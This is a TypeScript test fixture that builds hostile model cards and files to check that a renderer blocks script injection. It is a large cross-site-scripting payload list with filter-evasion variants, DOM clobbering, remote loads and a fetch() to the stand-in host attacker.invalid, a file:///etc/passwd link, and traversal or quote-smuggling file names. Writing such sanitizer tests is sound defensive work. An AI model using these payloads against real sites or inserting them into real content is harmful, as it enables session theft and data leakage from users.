// Every payload notes itself in `__pwned`; one that runs is found by that, by a dialog, or by what it asks for.
const RUN = "(globalThis.__pwned=globalThis.__pwned||[]).push('ran')"
const AWAY = "http://attacker.invalid"

const ATTACKS: string[] = [
  `# A card <script>${RUN}</script> with \`code <script>\``,
  `First paragraph <img src=x onerror="${RUN}"> with text.`,
  ...[
    "script",
    "SCRIPT",
    "ScRiPt",
    "script/x",
    "script\n",
    "script\t",
    "script src=data:,",
    "svg/onload",
    "scr\u0000ipt",
  ].map((tag) => `<${tag}>${RUN}</${tag}>`),
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${AWAY}/x.js"></script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<img src=x onerror=${RUN}>`,
  `<img src=x:x onerror\n=\n"${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<IMG SRC=x ONERROR="${RUN}">`,
  `<img src="${AWAY}/pixel.png" srcset="${AWAY}/a.png 1x, ${AWAY}/b.png 2x">`,
  `<picture><source srcset="${AWAY}/s.png"><img src="${AWAY}/p.png"></picture>`,
  `![remote](${AWAY}/markdown.png)`,
  `![x](x "onerror=${RUN}")`,
  `![x" onerror="${RUN}](x)`,
  `<video autoplay src="${AWAY}/v.mp4" poster="${AWAY}/poster.png" onerror=${RUN}></video><audio src="${AWAY}/a.mp3"></audio>`,
  `<svg onload=${RUN}><script>${RUN}</script><animate onbegin=${RUN} attributeName=x dur=1s><set attributeName=href to="javascript:${RUN}"/><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x"/></svg>`,
  `<math><maction actiontype="statusline#${AWAY}" xlink:href="javascript:${RUN}">click</maction></math>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe><iframe src="javascript:${RUN}"></iframe><iframe src="${AWAY}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="${AWAY}/x.swf"><applet code=x></applet>`,
  `<form action="${AWAY}" id=forms><input name=token autofocus onfocus=${RUN}><button formaction="javascript:${RUN}">Sign in</button></form>`,
  `<input type=image src="${AWAY}/i.png" onerror=${RUN}><select autofocus onfocus=${RUN}></select><textarea autofocus onfocus=${RUN}></textarea>`,
  `<base href="${AWAY}/"><meta http-equiv=refresh content="0;url=${AWAY}"><link rel=stylesheet href="${AWAY}/x.css"><link rel=prefetch href="${AWAY}/p">`,
  `<style>body{background:url(${AWAY}/style.png)} @import "${AWAY}/import.css";</style>`,
  `<p style="background:url(${AWAY}/inline.png);position:fixed;inset:0;z-index:9999">covers</p>`,
  `<div onmouseover=${RUN} onfocus=${RUN} tabindex=0 onpointerenter=${RUN} onanimationstart=${RUN}>hover</div>`,
  `<details open ontoggle=${RUN}><summary>x</summary>y</details><marquee onstart=${RUN}>x</marquee><body onload=${RUN}>`,
  ...["body", "cookie", "forms", "getElementById", "location", "defaultView"].map(
    (id) => `<a id=${id} name=${id}>c</a><img name=${id} id=${id}>`,
  ),
  "# getElementById\n\n# location\n\n## body",
  ...[
    "javascript:X",
    "JaVaScRiPt:X",
    "java\tscript:X",
    "&#106;avascript:X",
    "javascript&colon;X",
    "\u0001javascript:X",
    "vbscript:X",
    "data:text/html,<script>X</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "file:///etc/passwd",
    "blob:x",
  ].flatMap((address) => {
    const target = address.replace("X", RUN)
    return [
      `<a href="${target}">raw</a>`,
      `[markdown](<${target}>)`,
      `[entity](${target.replaceAll(" ", "%20").replaceAll("(", "\\(").replaceAll(")", "\\)")})`,
      `<${target}>`,
      `![image](<${target}>)`,
    ]
  }),
  `[reference][1]\n\n[1]: javascript:${RUN}`,
  `[title](https://example.org "\\" onmouseover=\\"${RUN}")`,
  `[a]("onclick=${RUN}//)`,
  `<a href="https://example.org" target=_blank ping="${AWAY}/ping" onclick=${RUN}>opens</a>`,
  `<https://example.org/"onmouseover="${RUN}>`,
  `\`\`\`html" onload="x\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`<script>${RUN}</script>\ncode\n\`\`\``,
  `| a | b |\n|---|---|\n| <script>${RUN}</script> | <img src=x onerror=${RUN}> |`,
  `<table background="${AWAY}/t.png"><tr><td background="${AWAY}/td.png" onclick=${RUN}>cell</td></tr></table>`,
  `<template><script>${RUN}</script></template><xmp><img src=x onerror=${RUN}></xmp><plaintext-x>`,
  `<!--><img src=x onerror=${RUN}>--> <![CDATA[<img src=x onerror=${RUN}>]]> <?xml <img src=x onerror=${RUN}>?>`,
  `<copy-button text="x" onclick=${RUN}>fake</copy-button><x-y is=script onfocus=${RUN} tabindex=0>custom</x-y>`,
  `[^x]\n\n[^x]: <img src=x onerror=${RUN}>`,
  `> [!NOTE]\n> <script>${RUN}</script>`,
]

const FRONT_MATTER = `---\nlicense: "<script>${RUN}</script>"\nlanguage: ["<img src=x onerror=${RUN}>"]\nbase_model: "javascript:${RUN}"\ntags: ["\\"><script>${RUN}</script>", "javascript:alert(1)"]\npipeline_tag: "<b>x</b>"\nlibrary_name: "../../x"\ndatasets: ["${AWAY}"]\n---`

/** A model card that tries everything that is known to work somewhere. */
export const ATTACKING_CARD: string = [FRONT_MATTER, ...ATTACKS, "The end of the card."].join("\n\n")

/** A card whose comment without end takes all that follows with it. */
export const SWALLOWING_CARD: string = `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;"></math>`

/** Files that would run if they were taken for what they say they are. */
export function attackingFiles(): Record<string, string> {
  const page = `<!doctype html><script>${RUN};alert(1);fetch("${AWAY}")</script><img src="${AWAY}/x.png" onerror="${RUN}">`
  const picture = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN};alert(1)</script><image href="${AWAY}/x.png"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${RUN}"/></body></foreignObject></svg>`
  return {
    "page.html": page,
    "page.htm": page,
    "page.xhtml": `<html xmlns="http://www.w3.org/1999/xhtml"><script>${RUN}</script></html>`,
    "picture.svg": picture,
    "script.js": `${RUN};alert(1)`,
    "data.json": `{"</script><script>${RUN}</script>":1}`,
    "notes.txt": page,
    "no-ending": page,
    'quote".txt': page,
    "<img src=x onerror=alert(1)>.txt": page,
    "'onmouseover='alert(1).md": page,
    "javascript:alert(1)": page,
    "%2e%2e%2f.txt": page,
    "&lt;b&gt;.html": page,
  }
}
